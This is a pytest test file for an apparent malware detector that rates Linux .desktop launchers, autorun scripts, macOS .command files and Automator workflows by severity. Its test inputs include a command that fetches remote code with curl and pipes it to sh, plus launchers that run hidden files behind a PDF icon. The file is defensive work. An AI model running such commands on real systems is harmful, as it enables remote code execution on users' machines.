"""autorun.desktop-entry: what Linux and macOS desktops start."""

import pytest

from gifthorse.inspect.detectors import autorun_desktop_entry as detector
from gifthorse.model.findings import Severity
from tests.samples.files import findings_of, severities


def entry(command: str, *, icon: str = "application-pdf", name: str = "Report") -> bytes:
    return f"[Desktop Entry]\nType=Application\nName={name}\nIcon={icon}\nExec={command}\nTerminal=false\n".encode()


@pytest.mark.parametrize(
    "command", ['sh -c "curl -s http://198.51.100.7/a | sh"', "bash -c 'xdg-open r.pdf; ./.a'", "python3 -c 'import os'", "/tmp/.x/run"]
)
def test_a_shell_command_behind_a_documents_icon_is_high(command: str) -> None:
    assert severities(detector, entry(command), "Report.desktop") == [Severity.HIGH]


def test_a_documents_name_is_a_disguise_too() -> None:
    assert severities(detector, entry("sh -c ./a", icon="x", name="Offer.pdf"), "a.desktop") == [Severity.HIGH]


def test_something_started_from_the_medium_itself_is_medium() -> None:
    assert severities(detector, entry("./start.sh", icon="x"), "a.desktop") == [Severity.MEDIUM]


def test_ordinary_entries_weigh_little() -> None:
    assert severities(detector, entry("gedit %U", icon="org.gnome.gedit"), "gedit.desktop") == [Severity.LOW]
    assert severities(detector, entry('sh -c "a || b"', icon="x"), "usr/share/applications/a.desktop") == [Severity.INFO]
    assert severities(detector, b"[Desktop Entry]\nType=Link\nURL=https://example.org\n", "a.desktop") == []


def test_a_file_that_desktops_start_by_themselves_is_high_at_the_root_only() -> None:
    assert severities(detector, b"#!/bin/sh\necho\n", "autorun.sh") == [Severity.HIGH]
    assert severities(detector, b"#!/bin/sh\necho\n", "tools/autorun.sh") == []


def test_a_command_file_of_macos_is_medium() -> None:
    (finding,) = findings_of(detector, b"#!/bin/bash\nopen .\n", "Read me.command")
    assert finding.severity is Severity.MEDIUM


def test_a_workflow_of_macos_that_runs_a_script_is_medium_and_one_without_is_silent() -> None:
    body = '<?xml version="1.0"?><plist><dict><key>{}</key><string>id</string></dict></plist>'
    assert severities(detector, body.format("COMMAND_STRING").encode(), "a.workflow/Contents/document.wflow") == [Severity.MEDIUM]
    assert severities(detector, body.format("AMName").encode(), "a.workflow/Contents/document.wflow") == []
